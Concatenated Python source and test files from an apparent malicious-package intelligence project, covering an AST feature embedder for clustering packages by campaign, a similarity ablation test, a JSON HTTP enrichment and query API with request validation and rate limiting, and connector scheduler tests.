        yield f"arg:{node.arg}"
    elif isinstance(node, ast.Constant) and isinstance(node.value, str):
        value = node.value
        if 0 < len(value) <= 60:
            yield f"str:{value}"
    elif isinstance(node, (ast.Import, ast.ImportFrom)):
        for alias in node.names:
            yield f"import:{alias.name}"


def _collect_features(
    tree: ast.AST, max_tokens: int
) -> Tuple[Dict[str, int], Dict[str, int]]:
    """One fused DFS pass collecting structural and lexical counts.

    Emits the same feature strings as :func:`iter_structural_features`
    and :func:`iter_lexical_features` but walks the tree once; the
    ``max_tokens`` budget is shared and consumed in emission order.
    """
    structural: Dict[str, int] = {}
    lexical: Dict[str, int] = {}
    budget = max_tokens
    stack: List[tuple] = [(tree, None, None)]
    while stack:
        if budget <= 0:
            break
        node, parent, grandparent = stack.pop()
        name = type(node).__name__
        if parent is not None:
            feature = f"st2:{parent}>{name}"
            structural[feature] = structural.get(feature, 0) + 1
            budget -= 1
        if grandparent is not None:
            feature = f"st3:{grandparent}>{parent}>{name}"
            structural[feature] = structural.get(feature, 0) + 1
            budget -= 1
        for feature in _lexical_of(node):
            lexical[feature] = lexical.get(feature, 0) + 1
            budget -= 1
        for child in ast.iter_child_nodes(node):
            stack.append((child, name, parent))
    return structural, lexical


def _token_fallback_features(source: str) -> Iterable[str]:
    """Crude token features for code that does not parse as Python."""
    token = []
    for ch in source:
        if ch.isalnum() or ch == "_":
            token.append(ch)
        else:
            if len(token) > 1:
                yield f"tok:{''.join(token)}"
            token = []
    if len(token) > 1:
        yield f"tok:{''.join(token)}"


def _embed_chunk(
    embedder: "AstEmbedder", chunk: List[Tuple[str, PackageArtifact]]
) -> List[Tuple[str, np.ndarray]]:
    """Worker body: embed one chunk of (sha256, artifact) pairs."""
    return [(sha, embedder.embed_package(artifact)) for sha, artifact in chunk]


@dataclass
class AstEmbedder:
    """Deterministic code embedder.

    ``structural_weight`` balances shape vs vocabulary: structure groups
    same-behaviour code, vocabulary separates distinct campaigns.
    """

    dim: int = DEFAULT_DIM
    structural_weight: float = 0.15
    lexical_weight: float = 5.0
    max_tokens: int = 8000  # matches the paper's input truncation

    def fingerprint(self) -> str:
        """Content address of everything a vector depends on besides the
        artifact bytes — the key of the persistent embedding cache."""
        payload = {
            "feature_version": FEATURE_VERSION,
            "dim": self.dim,
            "structural_weight": self.structural_weight,
            "lexical_weight": self.lexical_weight,
            "max_tokens": self.max_tokens,
        }
        canonical = json.dumps(payload, sort_keys=True, separators=(",", ":"))
        return hashlib.sha256(canonical.encode("utf-8")).hexdigest()[:16]

    def embed_source(self, source: str) -> np.ndarray:
        """Embed one source file.

        Term frequencies are damped with ``log1p`` so the handful of
        campaign-specific identifiers is not drowned out by the hundreds
        of repeated structural digrams every package shares.
        """
        vector = np.zeros(self.dim, dtype=np.float64)
        try:
            tree = ast.parse(source)
        except SyntaxError:
            counts: Dict[str, int] = {}
            for count, feature in enumerate(_token_fallback_features(source)):
                if count >= self.max_tokens:
                    break
                counts[feature] = counts.get(feature, 0) + 1
            self._accumulate(vector, counts, 1.0)
            return self._normalize(vector)
        structural, lexical = _collect_features(tree, self.max_tokens)
        self._accumulate(vector, structural, self.structural_weight)
        self._accumulate(vector, lexical, self.lexical_weight)
        return self._normalize(vector)

    def _accumulate(
        self, vector: np.ndarray, counts: Dict[str, int], weight: float
    ) -> None:
        for feature, count in counts.items():
            index, sign = _bucket(feature, self.dim)
            vector[index] += sign * weight * math.log1p(count)

    def embed_package(self, artifact: PackageArtifact) -> np.ndarray:
        """Embed a package: normalised sum of its code-file embeddings."""
        code_files = artifact.code_files()
        if not code_files:
            raise EmbeddingError(
                f"{artifact.id} has no code files to embed"
            )
        total = np.zeros(self.dim, dtype=np.float64)
        for _path, source in code_files.items():
            total += self.embed_source(source)
        return self._normalize(total)

    def embed_many(
        self,
        artifacts: Sequence[PackageArtifact],
        jobs: int = 1,
        cache: Optional[MutableMapping[str, np.ndarray]] = None,
    ) -> np.ndarray:
        """Embed a batch into an (n, dim) matrix of unit rows.

        Artifacts are deduplicated by SHA256 before any embedding work,
        vectors already present in ``cache`` (sha256 → vector) are
        reused, and the remaining unique artifacts are embedded with up
        to ``jobs`` worker processes (``0`` = one per core). ``cache``
        is updated in place with every newly computed vector. The matrix
        is byte-identical for any ``jobs``/``cache`` combination.
        """
        if not artifacts:
            return np.zeros((0, self.dim), dtype=np.float64)
        vectors: MutableMapping[str, np.ndarray] = cache if cache is not None else {}
        shas = [artifact.sha256() for artifact in artifacts]
        pending: Dict[str, PackageArtifact] = {}
        for sha, artifact in zip(shas, artifacts):
            if sha not in vectors and sha not in pending:
                pending[sha] = artifact
        if pending:
            vectors.update(self._embed_unique(list(pending.items()), jobs))
        matrix = np.empty((len(artifacts), self.dim), dtype=np.float64)
        for row, sha in enumerate(shas):
            matrix[row] = vectors[sha]
        return matrix

    def _embed_unique(
        self, pending: List[Tuple[str, PackageArtifact]], jobs: int
    ) -> Dict[str, np.ndarray]:
        """Embed deduplicated (sha256, artifact) pairs, in parallel when
        the batch is big enough to pay for the pool."""
        workers = min(resolve_jobs(jobs), len(pending))
        if workers <= 1 or len(pending) < PARALLEL_MIN_BATCH:
            return {sha: self.embed_package(a) for sha, a in pending}
        # Deterministic contiguous chunks, one per worker; merge order is
        # irrelevant because each vector is keyed by its sha256.
        chunk_size = -(-len(pending) // workers)
        chunks = [
            pending[start : start + chunk_size]
            for start in range(0, len(pending), chunk_size)
        ]
        computed: Dict[str, np.ndarray] = {}
        try:
            with ProcessPoolExecutor(max_workers=workers) as pool:
                for rows in pool.map(_embed_chunk, [self] * len(chunks), chunks):
                    computed.update(rows)
        except (OSError, PermissionError):
            # Process pools can be unavailable (restricted sandboxes,
            # exhausted fds); the serial path computes the same matrix.
            return {sha: self.embed_package(a) for sha, a in pending}
        return computed

    @staticmethod
    def _normalize(vector: np.ndarray) -> np.ndarray:
        norm = float(np.linalg.norm(vector))
        if norm == 0.0:
            return vector
        return vector / norm


def cosine_similarity(a: np.ndarray, b: np.ndarray) -> float:
    """Cosine similarity of two (already normalised or not) vectors."""
    denom = float(np.linalg.norm(a)) * float(np.linalg.norm(b))
    if denom == 0.0:
        return 0.0
    return float(np.dot(a, b)) / denom
