"""Ablation — the similarity pipeline's design choices (Section III-A).

DESIGN.md calls out three choices in the similar-edge builder: the
blended structural+lexical embedding, the automated false-positive pass
(``min_similarity``), and the hashed embedding dimension. Each variant
clusters the same reduced-scale artifact set and is scored against the
ground-truth campaign partition with B-cubed precision/recall.

Expected shape: the blended embedding beats structure-only on precision
(vocabulary separates same-template campaigns); the FP pass trades a
little recall for precision; 64 hashed dimensions already behave like
256 (feature hashing degrades gracefully).
"""

from __future__ import annotations

from typing import List, Tuple

import pytest

from repro.analysis.validation import bcubed
from repro.core.similarity import SimilarityConfig, cluster_artifacts
from repro.world import WorldConfig, build_world, collect

SMALL = WorldConfig(seed=11, scale=0.25)

VARIANTS = {
    "blended-256-fp": SimilarityConfig(seed=0),
    "blended-256-nofp": SimilarityConfig(seed=0, min_similarity=None),
    "structural-only": SimilarityConfig(seed=0, lexical_weight=0.0),
    "lexical-only": SimilarityConfig(seed=0, structural_weight=0.0),
    "blended-64-fp": SimilarityConfig(seed=0, dim=64),
}


@pytest.fixture(scope="module")
def embedded_entries():
    dataset = collect(build_world(SMALL)).dataset
    entries = [
        e for e in dataset.available_entries()
        if e.artifact.code_files() and e.campaign_id
    ]
    return entries


def _score(entries, config) -> Tuple[float, float]:
    result = cluster_artifacts([e.artifact for e in entries], config)
    predicted: List[int] = []
    truth: List[str] = []
    next_singleton = result.group_count
    for idx, entry in enumerate(entries):
        label = int(result.labels[idx])
        if label < 0:
            label = next_singleton
            next_singleton += 1
        predicted.append(label)
        truth.append(entry.campaign_id)
    return bcubed(predicted, truth)


@pytest.fixture(scope="module")
def scores(embedded_entries, request):
    show = request.getfixturevalue("show")
    results = {
        name: _score(embedded_entries, config)
        for name, config in VARIANTS.items()
    }
    lines = ["variant              B3-precision  B3-recall"]
    for name, (p, r) in results.items():
        lines.append(f"{name:<20} {p:>12.3f}  {r:>9.3f}")
    show(
        "Ablation: similarity pipeline variants (reduced world, "
        f"{len(embedded_entries)} artifacts)",
        "\n".join(lines),
    )
    _assert_shape(results)
    return results


def _assert_shape(scores) -> None:
    blended_p, fp_r = scores["blended-256-fp"]
    nofp_p, nofp_r = scores["blended-256-nofp"]
    structural_p, _ = scores["structural-only"]
    small_p, small_r = scores["blended-64-fp"]

    assert blended_p > 0.9, "the shipped configuration is precise"
    assert blended_p >= nofp_p - 1e-9, "the FP pass never hurts precision"
    assert nofp_r >= fp_r - 1e-9, "the FP pass can only cost recall"
    assert blended_p > structural_p, (
        "lexical features separate same-template campaigns"
    )
    assert small_p > 0.8 and small_r > 0.4, "64 dims degrade gracefully"


@pytest.mark.parametrize("variant", list(VARIANTS))
def test_ablation_similarity_variant(benchmark, embedded_entries, scores, variant):
    precision, recall = benchmark(
        _score, embedded_entries, VARIANTS[variant]
    )
    assert (precision, recall) == pytest.approx(scores[variant])
