"""Stdlib JSON HTTP API over the enrichment service.

A :class:`~http.server.ThreadingHTTPServer` (one thread per connection,
no new dependencies) exposing:

* ``GET /v1/healthz`` — liveness plus indexed-package count;
* ``GET /v1/stats`` — cache hit/miss counters and index shape;
* ``GET /v1/metrics`` — per-endpoint request counts, status-code counts
  and latency percentiles (p50/p95/p99), plus the rate limiter's books
  when one is configured;
* ``GET /v1/enrich?name=&version=&sha256=&ecosystem=`` — one indicator;
* ``POST /v1/enrich/batch`` — ``{"indicators": [{...}, ...]}``;
* ``POST /v1/query`` — ``{"pattern": "MATCH ..."}`` run through the
  MALGRAPH query engine (``repro.core.query``); parse failures return a
  structured 400 carrying the syntax-error offset.

Every request runs inside an error boundary: validation failures come
back as structured ``400`` JSON (``{"error": ...}``, plus ``"index"``
for the offending batch item), unexpected exceptions come back as
``500`` JSON carrying an ``"error_id"`` correlating with the server log
instead of a dropped connection, and client disconnects
(``BrokenPipeError`` / ``ConnectionResetError``) are swallowed without
a traceback. Each request is timed into the server's shared
:class:`~repro.service.metrics.ServiceMetrics`.

Request hygiene (what a production front end cannot ship without):

* ``Content-Length`` is validated before anything is read — a
  non-numeric header is a structured ``400`` (not an opaque ``500``)
  and a negative one is a ``400`` (not an ``rfile.read(-n)``
  read-to-EOF hang on a keep-alive connection);
* bodies are capped at ``max_body_bytes`` **before** the read — an
  oversized ``Content-Length`` answers ``413`` without buffering or
  parsing a single byte of payload;
* ``/v1/enrich`` query strings keep blank values (``?name=&sha256=x``
  rejects the blank ``name`` instead of silently dropping it), reject
  repeated parameters instead of silently taking the first, and reject
  unknown parameter names.

With ``rate_limit`` set, every non-``/v1/healthz`` request first passes
a per-client token bucket (:mod:`repro.service.ratelimit`); a client
over budget gets ``429`` with a ``Retry-After`` header and the refusal
is visible in ``/v1/metrics`` (status counter + ``rate_limiter``
section).

``create_server`` binds (``port=0`` picks an ephemeral port, which the
tests and the smoke script use); ``serve`` blocks until interrupted and
exits with a one-line message — not a traceback — when the port is
already in use.
"""

from __future__ import annotations

import errno
import json
import math
import sys
import time
import traceback
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Dict, Optional, Tuple
from urllib.parse import parse_qs, urlparse

from repro.core.query import QueryError, QuerySyntaxError
from repro.errors import ValidationError
from repro.service.cache import EnrichmentService
from repro.service.enrich import Indicator
from repro.service.feed import MAX_PAGE_SIZE, CursorError, CursorExpired
from repro.service.metrics import ServiceMetrics
from repro.service.ratelimit import RateLimiter

#: Refuse batches beyond this size so one request cannot pin a worker.
MAX_BATCH_SIZE = 100_000

#: Refuse request bodies beyond this many bytes *before* reading them
#: (create_server's ``max_body_bytes`` overrides per server). 16 MiB
#: comfortably fits a MAX_BATCH_SIZE batch of indicators.
MAX_BODY_BYTES = 16 * 1024 * 1024

#: Refuse query patterns beyond this many characters (create_server's
#: ``max_query_length`` overrides per server).
MAX_QUERY_LENGTH = 4096

#: Query parameters /v1/enrich understands; anything else is a 400.
ENRICH_PARAMS = ("name", "version", "sha256", "ecosystem")

#: Query parameters /v1/feed understands; anything else is a 400.
FEED_PARAMS = ("cursor", "limit")

#: Paths recorded individually in metrics; anything else pools as "other".
KNOWN_ENDPOINTS = (
    "/v1/healthz",
    "/v1/stats",
    "/v1/metrics",
    "/v1/enrich",
    "/v1/enrich/batch",
    "/v1/query",
    "/v1/feed",
)

#: Endpoints never rate limited: liveness probes must not 429.
RATE_LIMIT_EXEMPT = ("/v1/healthz",)

#: Connection-level errors meaning the client went away mid-reply.
CLIENT_GONE = (BrokenPipeError, ConnectionResetError)


class IntelRequestHandler(BaseHTTPRequestHandler):
    """Routes the six ``/v1`` endpoints onto the service."""

    server_version = "repro-intel/1.3"

    @property
    def service(self) -> EnrichmentService:
        return self.server.service  # type: ignore[attr-defined]

    @property
    def metrics(self) -> ServiceMetrics:
        return self.server.metrics  # type: ignore[attr-defined]

    # -- plumbing ---------------------------------------------------------
    def log_message(self, format: str, *args) -> None:  # noqa: A002
        if getattr(self.server, "verbose", False):
            super().log_message(format, *args)

    def _reply(self, status: int, payload: Dict, headers: Optional[Dict] = None) -> None:
        body = json.dumps(payload).encode("utf-8")
        # Observe before the first byte goes out: a client that has read
        # its response is then guaranteed to find it in /v1/metrics.
        self._observe(status)
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, str(value))
        self.end_headers()
        self.wfile.write(body)

    def _error(self, status: int, message: str, **extra) -> None:
        self._reply(status, {"error": message, **extra})

    def _endpoint_label(self) -> str:
        path = urlparse(self.path).path
        return path if path in KNOWN_ENDPOINTS else "other"

    def _observe(self, status: int) -> None:
        """Record this request once (status 0 = client went away)."""
        if self._observed:
            return
        self._observed = True
        self.metrics.observe(
            self._endpoint,
            status,
            time.perf_counter() - self._started,
            rows=self._rows,
        )

    def _client_id(self) -> str:
        """Who the rate limiter budgets: header identity, else peer IP."""
        held = self.headers.get("X-Client-Id")
        if held:
            return held.strip()
        return str(self.client_address[0])

    def _over_rate_limit(self) -> bool:
        """Apply the per-client token bucket; True = 429 already sent."""
        limiter: Optional[RateLimiter] = getattr(self.server, "rate_limiter", None)
        if limiter is None or self._endpoint in RATE_LIMIT_EXEMPT:
            return False
        wait = limiter.check(self._client_id())
        if wait is None:
            return False
        retry_after = max(1, math.ceil(wait))
        self._reply(
            429,
            {
                "error": "rate limit exceeded",
                "retry_after_seconds": retry_after,
            },
            headers={"Retry-After": retry_after},
        )
        return True

    def _guarded(self, route) -> None:
        """Error boundary + rate limit + metrics around one request.

        Every request produces exactly one metrics observation.
        """
        self._endpoint = self._endpoint_label()
        self._started = time.perf_counter()
        self._observed = False
        self._rows = None  # row count for row-returning endpoints
        try:
            if not self._over_rate_limit():
                route()
        except CLIENT_GONE:
            pass  # the client hung up; nothing to send, nothing to log
        except ValidationError as failure:
            self._safe_reply(400, {"error": str(failure)})
        except Exception as failure:  # noqa: BLE001 - the 500 boundary
            error_id = uuid.uuid4().hex[:12]
            print(
                f"[{error_id}] unhandled {type(failure).__name__} "
                f"on {self.path}: {failure}",
                file=sys.stderr,
            )
            if getattr(self.server, "verbose", False):
                traceback.print_exc()
            self._safe_reply(
                500, {"error": "internal server error", "error_id": error_id}
            )
        finally:
            self._observe(0)

    def _safe_reply(self, status: int, payload: Dict) -> None:
        """Best-effort reply: the connection may already be gone."""
        try:
            self._reply(status, payload)
        except CLIENT_GONE:
            pass

    def _read_json_body(self):
        """The request body parsed as JSON, or None (error already sent).

        Validates ``Content-Length`` before touching the socket: a
        non-numeric header answers a structured 400 instead of crashing
        into the 500 boundary, a negative one answers 400 instead of
        ``rfile.read(-n)`` (which reads to EOF and hangs a keep-alive
        connection), and a length over the body cap answers 413 without
        reading — one request can neither pin a worker on an endless
        body nor balloon memory before validation. Whenever the body is
        refused unread, the connection is closed (the unread bytes
        would otherwise be parsed as the next request).
        """
        raw = self.headers.get("Content-Length")
        try:
            length = int(raw.strip()) if raw is not None and raw.strip() else 0
        except ValueError:
            self.close_connection = True
            self._error(400, f"invalid Content-Length header: {raw!r}")
            return None
        if length < 0:
            self.close_connection = True
            self._error(400, f"negative Content-Length: {length}")
            return None
        cap = getattr(self.server, "max_body_bytes", MAX_BODY_BYTES)
        if length > cap:
            self.close_connection = True
            self._error(
                413, f"body of {length} bytes exceeds the {cap} byte limit"
            )
            return None
        try:
            payload = json.loads(self.rfile.read(length) or b"")
        except json.JSONDecodeError:
            self._error(400, "body is not valid JSON")
            return None
        return payload

    # -- GET --------------------------------------------------------------
    def do_GET(self) -> None:  # noqa: N802 (http.server API)
        self._guarded(self._route_get)

    def _enrich_params(self, query: str) -> Optional[Dict[str, str]]:
        """Validated /v1/enrich query parameters, or None (400 sent).

        ``keep_blank_values`` stops ``parse_qs`` silently dropping
        ``?name=&sha256=x`` style blanks (a blank is an explicit client
        mistake worth a 400, not a missing key), repeated parameters are
        rejected instead of silently taking the first value, and unknown
        parameter names are rejected instead of silently ignored.
        """
        pairs = parse_qs(query, keep_blank_values=True)
        unknown = sorted(k for k in pairs if k not in ENRICH_PARAMS)
        if unknown:
            self._error(
                400,
                f"unknown query parameter(s): {', '.join(unknown)} "
                f"(expected {', '.join(ENRICH_PARAMS)})",
            )
            return None
        repeated = sorted(k for k, v in pairs.items() if len(v) > 1)
        if repeated:
            self._error(
                400, f"repeated query parameter(s): {', '.join(repeated)}"
            )
            return None
        blank = sorted(k for k, v in pairs.items() if v[0] == "")
        if blank:
            self._error(
                400, f"blank value for query parameter(s): {', '.join(blank)}"
            )
            return None
        return {k: v[0] for k, v in pairs.items()}

    def _route_get(self) -> None:
        url = urlparse(self.path)
        if url.path == "/v1/healthz":
            # A degraded backing artifact is worth surfacing but the
            # service itself is healthy — still HTTP 200.
            status = "degraded" if getattr(self.service, "degraded", False) else "ok"
            index = self.service.index
            body = {
                "status": status,
                "packages": index.package_count,
                "epoch": index.epoch,
                "last_delta_at": index.last_delta_at,
            }
            # Per-source lifecycle states, only for services built over
            # connector-era artifacts (the key stays absent otherwise).
            source_health = getattr(self.service, "source_health", None)
            if source_health:
                body["sources"] = {
                    key: held.get("state", "healthy")
                    for key, held in source_health.items()
                }
            self._reply(200, body)
        elif url.path == "/v1/stats":
            self._reply(200, self.service.stats())
        elif url.path == "/v1/metrics":
            self._reply(200, self.metrics.snapshot())
        elif url.path == "/v1/enrich":
            params = self._enrich_params(url.query)
            if params is None:
                return
            indicator = Indicator.from_dict(params)
            if indicator.is_empty:
                self._error(400, "need at least ?name= or ?sha256=")
                return
            self._reply(200, self.service.enrich(indicator).to_dict())
        elif url.path == "/v1/feed":
            self._route_feed(url.query)
        else:
            self._error(404, f"unknown path {url.path!r}")

    def _route_feed(self, query: str) -> None:
        """``GET /v1/feed[?cursor=&limit=]`` — one page of the STIX-ish
        detection feed.

        Cursors are generation-tagged and survive index refreshes; an
        expired cursor (its generation was evicted) answers ``410 Gone``
        with a restart hint instead of silently double- or under-serving
        items.
        """
        exporter = getattr(self.service, "feed", None)
        if exporter is None:
            self._error(503, "feed exporter not configured on this service")
            return
        pairs = parse_qs(query, keep_blank_values=True)
        unknown = sorted(k for k in pairs if k not in FEED_PARAMS)
        if unknown:
            self._error(
                400,
                f"unknown query parameter(s): {', '.join(unknown)} "
                f"(expected {', '.join(FEED_PARAMS)})",
            )
            return
        repeated = sorted(k for k, v in pairs.items() if len(v) > 1)
        if repeated:
            self._error(
                400, f"repeated query parameter(s): {', '.join(repeated)}"
            )
            return
        cursor = pairs.get("cursor", [None])[0]
        if cursor == "":
            self._error(400, "blank value for query parameter(s): cursor")
            return
        limit: Optional[int] = None
        raw_limit = pairs.get("limit", [None])[0]
        if raw_limit is not None:
            try:
                limit = int(raw_limit)
            except ValueError:
                self._error(400, f"limit must be an integer, got {raw_limit!r}")
                return
            if limit < 1 or limit > MAX_PAGE_SIZE:
                self._error(
                    400,
                    f"limit must be between 1 and {MAX_PAGE_SIZE}, "
                    f"got {limit}",
                )
                return
        try:
            page = exporter.page(cursor=cursor, limit=limit)
        except CursorExpired as expired:
            self._reply(
                410,
                {
                    "error": str(expired),
                    "expired_generation": expired.generation,
                    "current_generation": expired.current,
                    "restart": "/v1/feed",
                },
            )
            return
        except CursorError as failure:
            self._error(400, str(failure))
            return
        self._rows = page["count"]
        self._reply(200, page)

    # -- POST -------------------------------------------------------------
    def do_POST(self) -> None:  # noqa: N802 (http.server API)
        self._guarded(self._route_post)

    def _route_post(self) -> None:
        path = urlparse(self.path).path
        if path == "/v1/query":
            self._route_query()
            return
        if path != "/v1/enrich/batch":
            self._error(404, f"unknown path {self.path!r}")
            return
        payload = self._read_json_body()
        if payload is None:
            return
        raw = payload.get("indicators") if isinstance(payload, dict) else None
        if not isinstance(raw, list):
            self._error(400, 'body must be {"indicators": [...]}')
            return
        if len(raw) > MAX_BATCH_SIZE:
            self._error(413, f"batch larger than {MAX_BATCH_SIZE}")
            return
        indicators = []
        for index, item in enumerate(raw):
            try:
                indicator = Indicator.from_dict(item)
            except ValidationError as failure:
                self._error(400, f"indicator {index}: {failure}", index=index)
                return
            if indicator.is_empty:
                self._error(
                    400,
                    f"indicator {index}: needs a name or sha256",
                    index=index,
                )
                return
            indicators.append(indicator)
        results = self.service.batch_enrich(indicators)
        self._reply(
            200,
            {"count": len(results), "results": [r.to_dict() for r in results]},
        )

    def _route_query(self) -> None:
        """``POST /v1/query`` — run one MALGRAPH query.

        Body: ``{"pattern": "MATCH ... RETURN ..."}``. Bad input comes
        back as structured 400s (syntax errors additionally carry the
        ``offset`` and the caret-rendered ``detail``); a well-formed
        query answers 200 with columns / rows / row_count / elapsed_ms.
        """
        engine = getattr(self.service, "query_engine", None)
        if engine is None:
            self._error(503, "query engine not configured on this service")
            return
        payload = self._read_json_body()
        if payload is None:
            return
        if not isinstance(payload, dict):
            self._error(400, 'body must be {"pattern": "<query>"}')
            return
        pattern = payload.get("pattern")
        if not isinstance(pattern, str) or not pattern.strip():
            self._error(400, '"pattern" must be a non-empty string')
            return
        cap = getattr(self.server, "max_query_length", MAX_QUERY_LENGTH)
        if len(pattern) > cap:
            self._error(
                400, f"pattern longer than {cap} characters ({len(pattern)})"
            )
            return
        try:
            result = engine.run(pattern)
        except QuerySyntaxError as failure:
            self._error(
                400,
                failure.reason,
                offset=failure.offset,
                detail=str(failure),
            )
            return
        except QueryError as failure:
            self._error(400, str(failure))
            return
        self._rows = result.row_count
        self._reply(200, result.to_dict())


def create_server(
    service: EnrichmentService,
    host: str = "127.0.0.1",
    port: int = 0,
    verbose: bool = False,
    max_query_length: int = MAX_QUERY_LENGTH,
    max_body_bytes: int = MAX_BODY_BYTES,
    rate_limit: Optional[float] = None,
    rate_burst: Optional[int] = None,
) -> ThreadingHTTPServer:
    """Bind (but do not run) the API server; port 0 = ephemeral.

    ``max_query_length`` caps ``/v1/query`` pattern sizes (characters);
    ``max_body_bytes`` caps POST bodies (bytes, refused with 413 before
    the body is read). ``rate_limit`` enables per-client token-bucket
    limiting at that many requests/second (burst ``rate_burst``,
    default = the rate); ``None`` disables limiting entirely.
    """
    server = ThreadingHTTPServer((host, port), IntelRequestHandler)
    server.service = service  # type: ignore[attr-defined]
    server.verbose = verbose  # type: ignore[attr-defined]
    server.metrics = ServiceMetrics()  # type: ignore[attr-defined]
    server.max_query_length = max_query_length  # type: ignore[attr-defined]
    server.max_body_bytes = max_body_bytes  # type: ignore[attr-defined]
    limiter = None
    if rate_limit is not None:
        limiter = RateLimiter(rate_limit, burst=rate_burst)
        server.metrics.attach_gauges(  # type: ignore[attr-defined]
            "rate_limiter", limiter.stats
        )
    server.rate_limiter = limiter  # type: ignore[attr-defined]
    if getattr(service, "source_health", None):
        # Per-source lifecycle health + feed pagination books, only when
        # the service was built over a connector-era artifact.
        server.metrics.attach_gauges(  # type: ignore[attr-defined]
            "connectors",
            lambda: {
                "sources": {
                    key: dict(held)
                    for key, held in service.source_health.items()
                },
                "feed": service.feed.stats(),
            },
        )
    if getattr(service, "webhook", None) is not None:
        server.metrics.attach_gauges(  # type: ignore[attr-defined]
            "webhooks", service.webhook.stats
        )
    return server


def server_address(server: ThreadingHTTPServer) -> Tuple[str, int]:
    """The (host, port) the server actually bound."""
    host, port = server.server_address[:2]
    return str(host), int(port)


def serve(
    service: EnrichmentService,
    host: str = "127.0.0.1",
    port: int = 8742,
    verbose: bool = True,
    rate_limit: Optional[float] = None,
    rate_burst: Optional[int] = None,
) -> Optional[ThreadingHTTPServer]:
    """Run the API until interrupted (the ``repro serve`` entry point).

    Returns None (after a one-line message on stderr, no traceback) when
    the requested port is already bound by another process.
    """
    try:
        server = create_server(
            service,
            host=host,
            port=port,
            verbose=verbose,
            rate_limit=rate_limit,
            rate_burst=rate_burst,
        )
    except OSError as failure:
        if failure.errno == errno.EADDRINUSE:
            print(
                f"error: {host}:{port} is already in use "
                "(another server running? pick a different --port)",
                file=sys.stderr,
            )
            return None
        raise
    bound_host, bound_port = server_address(server)
    print(f"repro intel service on http://{bound_host}:{bound_port}/v1/enrich")
    if rate_limit is not None:
        print(
            f"rate limit: {rate_limit:g} req/s per client "
            f"(burst {server.rate_limiter.burst:g})"  # type: ignore[attr-defined]
        )
    try:
        server.serve_forever()
    except KeyboardInterrupt:  # pragma: no cover - interactive only
        print("shutting down")
    finally:
        server.server_close()
        if verbose:
            print(server.metrics.render())  # type: ignore[attr-defined]
    return server
