"""ConnectorRegistry, schedules, the scheduler loop, builtin mapping."""

from __future__ import annotations

import pytest

from repro.connectors import (
    AdvisoryWebConnector,
    Connector,
    ConnectorRegistry,
    ConnectorSchedule,
    ConnectorScheduler,
    OpenDatasetConnector,
    SNSFeedConnector,
    builtin_connector,
    builtin_registry,
)
from repro.errors import ConfigError
from repro.intel.sources import SOURCE_PROFILES


class StubConnector(Connector):
    def __init__(self, key, schedule=None, wires=()):
        super().__init__(key, schedule=schedule)
        self.wires = list(wires)

    def fetch(self):
        return [dict(w) for w in self.wires]

    def normalise(self, wire):
        return (wire["name"], wire["version"])


# -- registry ----------------------------------------------------------------

def test_registry_preserves_insertion_order():
    registry = ConnectorRegistry(
        StubConnector(key) for key in ("zeta", "alpha", "mid")
    )
    assert registry.keys() == ["zeta", "alpha", "mid"]
    assert [c.key for c in registry] == ["zeta", "alpha", "mid"]
    assert len(registry) == 3
    assert "alpha" in registry and "nope" not in registry


def test_registry_rejects_duplicates_unless_replacing():
    registry = ConnectorRegistry([StubConnector("one")])
    with pytest.raises(ConfigError):
        registry.register(StubConnector("one"))
    replacement = StubConnector("one")
    registry.register(replacement, replace=True)
    assert registry.get("one") is replacement


def test_registry_get_unknown_raises_maybe_returns_none():
    registry = ConnectorRegistry()
    with pytest.raises(ConfigError):
        registry.get("ghost")
    assert registry.maybe("ghost") is None


def test_registry_unregister():
    registry = ConnectorRegistry([StubConnector("one")])
    registry.unregister("one")
    assert "one" not in registry


def test_health_snapshot_keys_every_connector():
    registry = ConnectorRegistry([StubConnector("a"), StubConnector("b")])
    registry.get("a").health.record_failure(day=1)
    snapshot = registry.health_snapshot()
    assert set(snapshot) == {"a", "b"}
    assert snapshot["a"]["state"] == "degraded"
    assert snapshot["b"]["state"] == "healthy"


# -- schedules ---------------------------------------------------------------

def test_schedule_activity_window():
    schedule = ConnectorSchedule(interval_days=1, active_from=5, active_until=10)
    assert not schedule.active_at(4)
    assert schedule.active_at(5) and schedule.active_at(10)
    assert not schedule.active_at(11)


def test_schedule_interval_cadence():
    schedule = ConnectorSchedule(interval_days=3, active_from=0)
    assert schedule.due(0, None)  # first pull is always due
    assert not schedule.due(2, 0)
    assert schedule.due(3, 0)


def test_never_update_schedule_is_due_exactly_once():
    schedule = ConnectorSchedule(interval_days=0, active_from=0)
    assert schedule.due(0, None)
    assert not schedule.due(100, 0)  # pulled once, never again


# -- scheduler ---------------------------------------------------------------

def test_scheduler_pulls_due_connectors_only():
    early = StubConnector(
        "early",
        schedule=ConnectorSchedule(interval_days=2, active_from=0),
        wires=[],
    )
    late = StubConnector(
        "late", schedule=ConnectorSchedule(interval_days=1, active_from=5)
    )
    scheduler = ConnectorScheduler(ConnectorRegistry([early, late]))

    results = scheduler.tick(0)
    assert set(results) == {"early"}
    assert early.last_pull_day == 0

    results = scheduler.tick(1)  # early not due (interval 2), late inactive
    assert results == {}

    results = scheduler.tick(5)
    assert set(results) == {"early", "late"}
    assert scheduler.pulls == 3


def test_scheduler_ages_active_unpulled_connectors():
    lazy = StubConnector(
        "lazy", schedule=ConnectorSchedule(interval_days=30, active_from=0)
    )
    lazy.health.stale_after = 2
    scheduler = ConnectorScheduler(ConnectorRegistry([lazy]))
    scheduler.tick(0)  # first pull, clean
    assert lazy.health.state == "healthy"
    scheduler.tick(3)  # not due; staleness check runs on the clock
    assert lazy.health.state == "degraded"
    scheduler.tick(5)  # age 5 > 2 * stale_after
    assert lazy.health.state == "dark"


# -- builtin mapping ---------------------------------------------------------

def test_builtin_registry_covers_every_table_one_source():
    registry = builtin_registry()
    assert registry.keys() == [p.key for p in SOURCE_PROFILES]
    kinds = {
        "dataset": OpenDatasetConnector,
        "website": AdvisoryWebConnector,
        "sns": SNSFeedConnector,
    }
    for profile in SOURCE_PROFILES:
        connector = registry.get(profile.key)
        assert type(connector) is kinds[profile.kind.value]
        assert connector.schedule.interval_days == profile.update_interval_days
        assert connector.schedule.active_from == profile.active_from
        assert connector.schedule.active_until == profile.last_update


def test_builtin_health_staleness_tracks_cadence():
    for profile in SOURCE_PROFILES:
        connector = builtin_connector(profile)
        if profile.update_interval_days > 0:
            assert (
                connector.health.stale_after
                == 2 * profile.update_interval_days
            )
        else:
            assert connector.health.stale_after is None  # never updates
